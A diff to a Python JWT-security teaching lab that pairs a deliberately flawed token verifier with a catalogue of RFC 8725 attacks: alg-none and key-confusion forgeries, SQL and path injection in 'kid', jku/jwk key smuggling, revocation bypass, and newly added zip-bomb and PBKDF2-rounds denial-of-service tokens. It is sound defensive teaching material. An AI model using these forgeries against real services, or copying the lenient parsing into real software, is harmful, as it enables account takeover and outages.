@@ -14,18 +14,27 @@ import posixpath
 import re
 import sqlite3
 import time
+import zlib
 from base64 import urlsafe_b64decode
 from collections.abc import Callable
 from contextlib import closing
 from dataclasses import dataclass
 from functools import cached_property
+from hashlib import pbkdf2_hmac
 from typing import Annotated, Any
 from uuid import uuid4
 
 import httpx
+from cryptography.exceptions import InvalidTag
 from cryptography.hazmat.primitives import hashes, serialization
 from cryptography.hazmat.primitives.asymmetric import ed25519, padding, rsa
 from cryptography.hazmat.primitives.asymmetric.types import PublicKeyTypes
+from cryptography.hazmat.primitives.ciphers.aead import AESGCM
+from cryptography.hazmat.primitives.keywrap import (
+    InvalidUnwrap,
+    aes_key_unwrap,
+    aes_key_wrap,
+)
 from fastapi import Depends, FastAPI, Response
 from jwt.algorithms import OKPAlgorithm, RSAAlgorithm
 
@@ -39,7 +48,7 @@ from snippets.ch01_jwt_anatomy import (
 
 # %% The issuer, its partner, and their keys
 ISSUER, PARTNER = "https://login.example", "https://partner.example"
-AUDIENCE = "https://api.example"
+OUR_API = "https://api.example"
 RSA_KEY = rsa.generate_private_key(65537, 2048)
 PUBLIC_PEM = RSA_KEY.public_key().public_bytes(
     serialization.Encoding.PEM,
@@ -62,7 +71,7 @@ KEYS = {
     "rsa": Key("RS256", ISSUER, PUBLIC_PEM),
     "body": Key("RS256", ISSUER, b"".join(PUBLIC_PEM.split(b"\n")[1:-2])),
     "raw": Key("EdDSA", ISSUER, OTHER_KEY.public_key().public_bytes_raw()),
-    "partner": Key("HS256", PARTNER, b"a teaching key that mallory has, too"),
+    "partner": Key("HS256", PARTNER, b"partner's and ours, teaching key"),
     "prototype": Key("HS256", ISSUER, b"sunshine"),
 }
 
@@ -90,24 +99,26 @@ def sign_rs256(message: bytes) -> bytes:
     return RSA_KEY.sign(message, padding.PKCS1v15(), hashes.SHA256())
 
 
-HEADER = {"alg": "RS256", "kid": "rsa", "typ": "at+jwt"}
+OWN_HEADER = {"alg": "RS256", "kid": "rsa", "typ": "at+jwt"}
 
 
 def issue(subject: str, header: Json | None = None, **claims: object) -> str:
     """Issue a token for ten minutes, with RFC 9068's claims (§2.2)."""
     now, jti = int(time.time()), str(uuid4())
-    usual = {"iss": ISSUER, "aud": AUDIENCE, "sub": subject, "jti": jti}
+    usual = {"iss": ISSUER, "aud": OUR_API, "sub": subject, "jti": jti}
     times = {"iat": now, "exp": now + 600}
-    return compact(HEADER | (header or {}), usual | times | claims, sign_rs256)
+    return compact(
+        OWN_HEADER | (header or {}), usual | times | claims, sign_rs256
+    )
 
 
-# %% Read a token, as lenient libraries do
+# %% Read base64url and JSON, as lenient libraries do
 def unbase64(text: str) -> bytes:
     """Decode base64url in any spelling that Python accepts."""
     return urlsafe_b64decode(text + "==")
 
 
-def read_json(data: bytes) -> Json:
+def read_object_leniently(data: bytes) -> Json:
     """Read an object; UTF-16 passes, and of two equal names the last wins.
 
     Raises:
@@ -119,7 +130,8 @@ def read_json(data: bytes) -> Json:
     return members
 
 
-class Token:
+# %% Take a token apart
+class Jwt:
     """A token that is read, but not verified.
 
     Attributes:
@@ -144,13 +156,13 @@ class Token:
         if len(parts) != 3:
             raise ValueError("not three parts")
         self.text, self.message = text, ".".join(parts[:2])
-        self.header = read_json(unbase64(parts[0]))
+        self.header = read_object_leniently(unbase64(parts[0]))
         self.signature = unbase64(parts[2])
         self.inner, self.payload = self, unbase64(text.split(".")[1])
         if self.header.get("cty") == "JWT":
-            self.inner = Token(self.payload.decode("ascii"))
+            self.inner = Jwt(self.payload.decode("ascii"))
             self.payload = self.inner.payload
-        self.claims = read_json(self.payload)
+        self.claims = read_object_leniently(self.payload)
 
     @cached_property
     def key(self) -> Key:
@@ -197,7 +209,7 @@ def stored_key(kid: object) -> Key:
 
 
 # %% Verify a signature by the algorithm that the token names
-ALGORITHMS = {
+VERIFIERS = {
     "RS256": RSAAlgorithm(RSAAlgorithm.SHA256),
     "EdDSA": OKPAlgorithm(),
 }
@@ -216,7 +228,7 @@ def public_key(material: bytes) -> PublicKeyTypes:
     return serialization.load_der_public_key(unbase64(material.decode()))
 
 
-def signature_fits(token: Token) -> bool:
+def signature_fits(token: Jwt) -> bool:
     """Run the algorithm that the header names, as libraries once did.
 
     Raises:
@@ -231,7 +243,54 @@ def signature_fits(token: Token) -> bool:
     if alg != token.key.alg:
         raise ValueError("this key is for another algorithm")
     key = public_key(token.key.material)
-    return ALGORITHMS[alg].verify(message, key, token.signature)
+    return VERIFIERS[alg].verify(message, key, token.signature)
+
+
+# %% Decrypt a token
+PASSWORD = b"a teaching password that mallory has, too"
+UNREADABLE = (InvalidTag, InvalidUnwrap, zlib.error)
+
+
+def wrapping_key(salt: bytes, rounds: int) -> bytes:
+    """Derive a key from the password (RFC 7518 §4.8.1.1).
+
+    Of all the rounds that a token asks for, this lab runs the first 1,000.
+    """
+    salt = b"PBES2-HS256+A128KW\0" + salt
+    return pbkdf2_hmac("sha256", PASSWORD, salt, min(rounds, 1000), 16)
+
+
+class Envelope(Jwt):
+    """An encrypted token: only its header can be read (RFC 7516 §7.1)."""
+
+    def __init__(self, text: str) -> None:
+        """Read the header.
+
+        Raises:
+            ValueError: it is malformed.
+        """
+        self.text, self.parts = text, text.split(".")
+        self.header = read_object_leniently(unbase64(self.parts[0]))
+
+    def decrypt(self) -> str:
+        """Return the token inside, by A256GCM (RFC 7516 §5.2).
+
+        Raises:
+            ValueError: the result is no text.
+            UNREADABLE: a key does not fit, or the data are damaged.
+        """
+        key, iv, content, tag = map(unbase64, self.parts[1:])
+        if self.header.get("alg") == "dir":
+            key = KEYS["partner"].material
+        else:
+            salt = unbase64(str(self.header.get("p2s")))
+            rounds = int(self.header.get("p2c", 0))
+            key = aes_key_unwrap(wrapping_key(salt, rounds), key)
+        head = self.parts[0].encode("ascii")
+        plain = AESGCM(key).decrypt(iv, content + tag, head)
+        if "zip" in self.header:
+            plain = zlib.decompress(plain, wbits=-15)
+        return plain.decode("ascii").strip()
 
 
 # %% What the guards ask
@@ -244,7 +303,7 @@ USERS = {
 }
 
 
-def names_come_once(token: Token) -> bool:
+def names_come_once(token: Jwt) -> bool:
     """Whether the claims have no name twice (RFC 7519 §4)."""
     try:
         json.loads(token.payload, object_pairs_hook=without_duplicates)
@@ -253,19 +312,26 @@ def names_come_once(token: Token) -> bool:
     return True
 
 
-def seconds_left(token: Token) -> float:
+def kind_of(token: Jwt) -> str:
+    """Return a token's `typ`, in any of its spellings (RFC 9068 §4)."""
+    typ = str(token.header.get("typ")).lower()
+    return typ.removeprefix("application/")
+
+
+def seconds_left(token: Jwt) -> float:
     """Return how long a token lives; -1 if `exp` is missing or no number."""
     exp = token.claims.get("exp", 0)
     return exp - int(time.time()) if type(exp) in (int, float) else -1
 
 
-def audiences(token: Token) -> list[Any]:
+def audiences(token: Jwt) -> list[Any]:
     """Return the audiences; `aud` holds one or a list (RFC 7519 §4.1.3)."""
     aud = token.claims.get("aud", [])
     return aud if isinstance(aud, list) else [aud]
 
 
-def inner_holds(token: Token) -> bool:
+# %% More that the guards ask
+def inner_holds(token: Jwt) -> bool:
     """Whether a token that is nested in this one passes all guards."""
     try:
         return token.inner is token or bool(read_token(token.inner.text))
@@ -273,16 +339,19 @@ def inner_holds(token: Token) -> bool:
         return False
 
 
-def user_of(token: Token) -> str | None:
+def username_of(token: Jwt) -> str | None:
     """Return the user whom issuer and subject name together, or None."""
     claims = token.claims
     return USERS.get((str(claims.get("iss")), str(claims.get("sub"))))
 
 
 # %% The guards, in their order
-Guard = Callable[[Token], bool]
+Guard = Callable[[Jwt], bool]
+SEALED = ("form", "zip", "rounds")  # asked before a token is decrypted
 GUARDS: dict[str, Guard] = {
-    "one_format": lambda t: not t.text.startswith("{"),
+    "form": lambda t: re.fullmatch(r"[\w.-]*", t.text, re.ASCII) is not None,
+    "zip": lambda t: "zip" not in t.header,  # RFC 8725 §3.6
+    "rounds": lambda t: t.header.get("p2c", 1) in range(1, 300_001),
     "crit": lambda t: "crit" not in t.header,  # RFC 7515 §4.1.11
     "own_keys": lambda t: not {"jku", "jwk"} & t.header.keys(),  # §3.10
     "kid": lambda t: t.header.get("kid") in list(KEYS),  # RFC 8725 §3.10
@@ -292,29 +361,41 @@ GUARDS: dict[str, Guard] = {
     "nested": inner_holds,
     "utf_8": lambda t: json.detect_encoding(t.payload) == "utf-8",  # §3.7
     "names": names_come_once,
-    "kind": lambda t: t.inner.header.get("typ") == "at+jwt",  # §3.11, §3.12
+    "kind": lambda t: kind_of(t.inner) == "at+jwt",  # §3.11, §3.12
     "issuer": lambda t: t.claims.get("iss") == t.inner.key.issuer,  # §3.8
-    "audience": lambda t: AUDIENCE in audiences(t),  # §3.9
+    "audience": lambda t: OUR_API in audiences(t),  # §3.9
     "lifetime": lambda t: 0 < seconds_left(t) <= DAY,  # RFC 7519 §4.1.4
     "revoked": lambda t: t.claims.get("jti") not in REVOKED.values(),
-    "user": lambda t: user_of(t) is not None,
+    "user": lambda t: username_of(t) is not None,
 }
 
 
 # %% Hold a token against the guards
-def read_token(text: str, guards: dict[str, Guard] = GUARDS) -> Token:
-    """Return a token that passes all guards.
+def hold(token: Jwt, guards: dict[str, Guard]) -> None:
+    """Ask one guard after the other.
 
     Raises:
-        RefusedTokenError: the token is malformed, or the guard whose name is
-            the message refuses it.
+        RefusedTokenError: a guard refuses; the message is its name.
+    """
+    for name, guard in guards.items():
+        if not guard(token):
+            raise RefusedTokenError(name)
+
+
+def read_token(text: str, guards: dict[str, Guard] = GUARDS) -> Jwt:
+    """Return a token that passes all guards, decrypted if need be.
+
+    Raises:
+        RefusedTokenError: a guard refuses the token, or it is malformed.
     """
     try:
-        token = Token(text)
-        for name, guard in guards.items():
-            if not guard(token):
-                raise RefusedTokenError(name)
-    except (ValueError, RecursionError) as error:
+        if text.count(".") == 4:
+            envelope = Envelope(text)
+            hold(envelope, {name: guards[name] for name in SEALED})
+            text = envelope.decrypt()
+        token = Jwt(text)
+        hold(token, guards)
+    except (ValueError, RecursionError, *UNREADABLE) as error:
         raise RefusedTokenError("malformed") from error
     return token
 
@@ -336,7 +417,7 @@ def flawed_app(**instead: Guard) -> FastAPI:
     async def get_current_user(token: ch05.BearerToken) -> str:
         """Return the user; for the lab, a refusal names its guard."""
         try:
-            return str(user_of(read_token(token, guards)))
+            return str(username_of(read_token(token, guards)))
         except RefusedTokenError as error:
             reason = f"stopped by {error}"
             refusal = ch05.bearer_error(401, "invalid_token", reason)
@@ -373,7 +454,7 @@ def flawed_app(**instead: Guard) -> FastAPI:
     return app
 
 
-# %% An attack, and its outcome
+# %% An attack
 Exploit = Callable[[str], str]
 
 
@@ -396,6 +477,7 @@ class Attack:
     exploit: Exploit
 
 
+# %% Run an attack
 @dataclass(frozen=True)
 class Outcome:
     """An app's answer to an attack: its user, or why there is none."""
@@ -428,37 +510,37 @@ async def run(attack: Attack, app: FastAPI) -> Outcome:
 
 
 # %% What people write instead of a guard
-def anything(token: Token) -> bool:
+def anything(token: Jwt) -> bool:
     """Refuse no token: the guard is missing."""
     return True
 
 
-def block_list(token: Token) -> bool:
+def block_list(token: Jwt) -> bool:
     """Refuse one spelling of one algorithm, and accept the others."""
     return token.header.get("alg") != "none"
 
 
-def audience_if_any(token: Token) -> bool:
+def audience_if_any(token: Jwt) -> bool:
     """Ask for our name only if there are names."""
-    return not audiences(token) or AUDIENCE in audiences(token)
+    return not audiences(token) or OUR_API in audiences(token)
 
 
-def audience_within(token: Token) -> bool:
+def audience_within(token: Jwt) -> bool:
     """Look for our name anywhere within the text."""
-    return AUDIENCE in str(token.claims.get("aud"))
+    return OUR_API in str(token.claims.get("aud"))
 
 
-def expiry_if_any(token: Token) -> bool:
+def expiry_if_any(token: Jwt) -> bool:
     """Ask whether a token has expired, if it ever does."""
     return "exp" not in token.claims or seconds_left(token) > 0
 
 
-def unexpired(token: Token) -> bool:
+def unexpired(token: Jwt) -> bool:
     """Ask whether a token has expired, but not when it will."""
     return seconds_left(token) > 0
 
 
-def text_not_revoked(token: Token) -> bool:
+def text_not_revoked(token: Jwt) -> bool:
     """Look a token up by its text, which has more than one spelling."""
     return token.text not in REVOKED
 
@@ -466,7 +548,7 @@ def text_not_revoked(token: Token) -> bool:
 # %% Forge a token
 def as_johndoe(own: str, **changes: object) -> Json:
     """Return mallory's claims with another subject; None leaves one out."""
-    claims = Token(own).claims | {"sub": "johndoe"} | changes
+    claims = Jwt(own).claims | {"sub": "johndoe"} | changes
     return {name: claim for name, claim in claims.items() if claim is not None}
 
 
@@ -478,7 +560,7 @@ def with_other_claims(own: str) -> str:
 
 def unsigned(alg: str) -> Exploit:
     """Say that there is no signature, and leave it out."""
-    header = HEADER | {"alg": alg}
+    header = OWN_HEADER | {"alg": alg}
     return lambda own: compact(header, as_johndoe(own), lambda _: b"")
 
 
@@ -500,19 +582,21 @@ def by_public_key(kid: str) -> Exploit:
 
 
 def by_partner(bits: int = 256, **claims: object) -> Exploit:
-    """Sign for a user of the partner's, whose secret mallory has."""
-    claims |= {"iss": PARTNER, "sub": "mallory"}
+    """Sign with the partner's secret, by default for a user of its own."""
+    claims = {"iss": PARTNER, "sub": "mallory"} | claims
     return by_secret(KEYS["partner"].material, "partner", bits, **claims)
 
 
 # %% Bring a key along
 MALLORYS_KEY = ed25519.Ed25519PrivateKey.generate()
-MALLORYS_JWK = {
+JWK = {
     "kty": "OKP",
     "crv": "Ed25519",
     "x": part(MALLORYS_KEY.public_key().public_bytes_raw()),
 }
+URL = "https://mallory.example/key.json"
 MADE_UP = b"a secret that mallory has made up"
+PATH, TERMS = "../static/terms.txt", FILES["/srv/static/terms.txt"]
 SQL = f"' UNION SELECT 'HS256', '{ISSUER}', X'{MADE_UP.hex()}' --"
 VISITS: list[str] = []  # the addresses that the service asked for
 
@@ -520,12 +604,12 @@ VISITS: list[str] = []  # the addresses that the service asked for
 def answer(request: httpx.Request) -> httpx.Response:
     """Answer as mallory's own server, whatever address is asked for."""
     VISITS.append(str(request.url))
-    return httpx.Response(200, json=MALLORYS_JWK)
+    return httpx.Response(200, json=JWK)
 
 
 def by_own_key(**header: object) -> Exploit:
     """Sign with mallory's own key, and say in the header where it is."""
-    header = HEADER | {"alg": "EdDSA"} | header
+    header = OWN_HEADER | {"alg": "EdDSA"} | header
     return lambda own: compact(header, as_johndoe(own), MALLORYS_KEY.sign)
 
 
@@ -547,10 +631,13 @@ def received(header: Json | None = None, **claims: object) -> Exploit:
 
 
 def respelled(own: str) -> str:
-    """Send a token that johndoe has revoked, with an `=` at its end."""
+    """Send a token that johndoe has revoked, with another last letter.
+
+    A signature of 256 bytes leaves four bits of its last letter unused.
+    """
     token = issue("johndoe")
-    REVOKED[token] = Token(token).claims["jti"]
-    return token + "="
+    REVOKED[token] = Jwt(token).claims["jti"]
+    return token[:-1] + chr(ord(token[-1]) + 1)
 
 
 # %% Let two readers disagree
@@ -565,7 +652,7 @@ def countersign(payload: bytes) -> str:
     found = re.search(rb'"sub":"(.*?)"', payload)
     if found and found[1] != b"mallory":
         raise PermissionError("not yours")
-    return compact(HEADER, payload, sign_rs256)
+    return compact(OWN_HEADER, payload, sign_rs256)
 
 
 def with_sub_twice(own: str) -> str:
@@ -595,10 +682,31 @@ def nested(own: str) -> str:
     )
 
 
-# %% Attacks on signatures and keys
-SECRET = KEYS["partner"].material
-PATH, TERMS = "../static/terms.txt", FILES["/srv/static/terms.txt"]
-JWKS = "https://mallory.example/key.json"
+# %% Let a small token cost much
+def encrypt(header: Json, key: bytes, plain: bytes, wrapped: bytes) -> str:
+    """Encrypt a token by A256GCM; `wrapped` is its key, encrypted."""
+    head, iv = part(header | {"enc": "A256GCM"}), uuid4().bytes[:12]
+    sealed = AESGCM(key).encrypt(iv, plain, head.encode("ascii"))
+    return ".".join(
+        [head, *map(part, (wrapped, iv, sealed[:-16], sealed[-16:]))]
+    )
+
+
+def zip_bomb(own: str) -> str:
+    """Compress mallory's token and a million spaces to two kilobytes."""
+    plain = zlib.compress(own.encode() + b" " * 1_000_000, 9, wbits=-15)
+    header = {"alg": "dir", "zip": "DEF"}
+    return encrypt(header, KEYS["partner"].material, plain, b"")
+
+
+def many_rounds(own: str) -> str:
+    """Ask for 1,000 million rounds of PBKDF2, minutes of computing."""
+    key, wrapping = bytes(32), wrapping_key(b"salt", 1000)
+    header = {"alg": "PBES2-HS256+A128KW", "p2c": 10**9, "p2s": part(b"salt")}
+    return encrypt(header, key, own.encode(), aes_key_wrap(wrapping, key))
+
+
+# %% Attacks on the signature and its key
 ATTACKS: dict[str, Attack] = {}
 
 
@@ -609,6 +717,7 @@ def attack(rule: str, name: str, exploit: Exploit, **flaw: Guard) -> None:
 
 
 attack("8725 §3.3", "claims changed", with_other_claims, signature=anything)
+attack("8725 §3.3", "nested token", nested, nested=anything)
 attack("8725 §3.2", "alg none", unsigned("none"), algorithm=anything)
 attack("8725 §3.2", "alg noNe", unsigned("noNe"), algorithm=block_list)
 attack("8725 §3.1", "public PEM", by_public_key("rsa"), algorithm=anything)
@@ -618,36 +727,33 @@ attack("8725 §3.1", "HS512", by_partner(512), algorithm=anything)
 attack("8725 §3.5", "guessed word", by_guessed_word, key_length=anything)
 attack("8725 §3.10", "SQL in kid", by_secret(MADE_UP, SQL), kid=anything)
 attack("8725 §3.10", "path in kid", by_secret(TERMS, PATH), kid=anything)
-attack("8725 §3.10", "jku", by_own_key(jku=JWKS), own_keys=anything)
-attack("8725 §3.10", "jwk", by_own_key(jwk=MALLORYS_JWK), own_keys=anything)
-attack("8725 §3.3", "nested token", nested, nested=anything)
+attack("8725 §3.10", "jku", by_own_key(jku=URL), own_keys=anything)
+attack("8725 §3.10", "jwk", by_own_key(jwk=JWK), own_keys=anything)
 
-# %% Attacks on claims
-ONLY_FROM = {"crit": ["only-from"], "only-from": "192.0.2.1"}
-ID, LOGOUT, REFRESH = (
-    received({"typ": typ}) for typ in ("JWT", "logout+jwt", "refresh+jwt")
-)
-OTHER, LONGER = "https://mallory.example", f"{AUDIENCE}.mallory.example"
-attack("7515 §4.1.11", "crit", received(ONLY_FROM), crit=anything)
-attack("8725bis §3.14", "two formats", in_two_formats, one_format=anything)
-attack("8725 §3.7", "UTF-16", in_utf_16, utf_8=anything)
-attack("7519 §4", "sub twice", with_sub_twice, names=anything)
-attack("8725 §3.11", "ID token", ID, kind=anything)
-attack("8725 §3.12", "logout token", LOGOUT, kind=anything)
-attack("8725 §3.12", "refresh token", REFRESH, kind=anything)
+# %% Attacks on what the token says
+OTHER_API, LONGER_API = "https://mallory.example", OUR_API + ".mallory.example"
+ID, LOGOUT, REFRESH = {"typ": "JWT"}, {"typ": "logout+jwt"}, {"typ": "rt+jwt"}
+AS_US, YEAR_2100 = by_partner(iss=ISSUER, sub="johndoe"), 4_102_444_800
+BOUND = {"crit": ["only-from"], "only-from": "192.0.2.1"}
+attack("8725 §3.8", "another issuer", AS_US, issuer=anything)
 attack(
-    "8725 §3.8",
-    "another issuer",
-    by_secret(SECRET, "partner"),
-    issuer=anything,
+    "8725 §3.9", "another API's", received(aud=OTHER_API), audience=anything
 )
-attack("8725 §3.9", "another API's", received(aud=OTHER), audience=anything)
 attack("8725 §3.9", "no audience", received(aud=[]), audience=audience_if_any)
 attack(
-    "8725 §3.9", "longer name", received(aud=LONGER), audience=audience_within
+    "8725 §3.9", "longer", received(aud=LONGER_API), audience=audience_within
 )
-attack("9068 §2.2", "no exp", by_partner(exp=None), lifetime=expiry_if_any)
-attack(
-    "8725bis", "exp in 2100", by_partner(exp=4102444800), lifetime=unexpired
-)
-attack("7519 §4.1.7", "revoked", respelled, revoked=text_not_revoked)
+attack("8725 §3.11", "ID token", received(ID), kind=anything)
+attack("8725 §3.12", "logout token", received(LOGOUT), kind=anything)
+attack("8725 §3.12", "refresh token", received(REFRESH), kind=anything)
+attack("7515 §4.1.11", "crit", received(BOUND), crit=anything)
+attack("7519 §4.1.4", "no exp", by_partner(exp=None), lifetime=expiry_if_any)
+attack("9068 §5", "exp in 2100", by_partner(exp=YEAR_2100), lifetime=unexpired)
+attack("7519 §4.1.7", "respelled", respelled, revoked=text_not_revoked)
+
+# %% Attacks on how the token is written
+attack("7519 §4", "sub twice", with_sub_twice, names=anything)
+attack("8725 §3.7", "UTF-16", in_utf_16, utf_8=anything)
+attack("8725bis §3.14", "two formats", in_two_formats, form=anything)
+attack("8725 §3.6", "zip bomb", zip_bomb, zip=anything)
+attack("8725bis §3.13", "many rounds", many_rounds, rounds=anything)
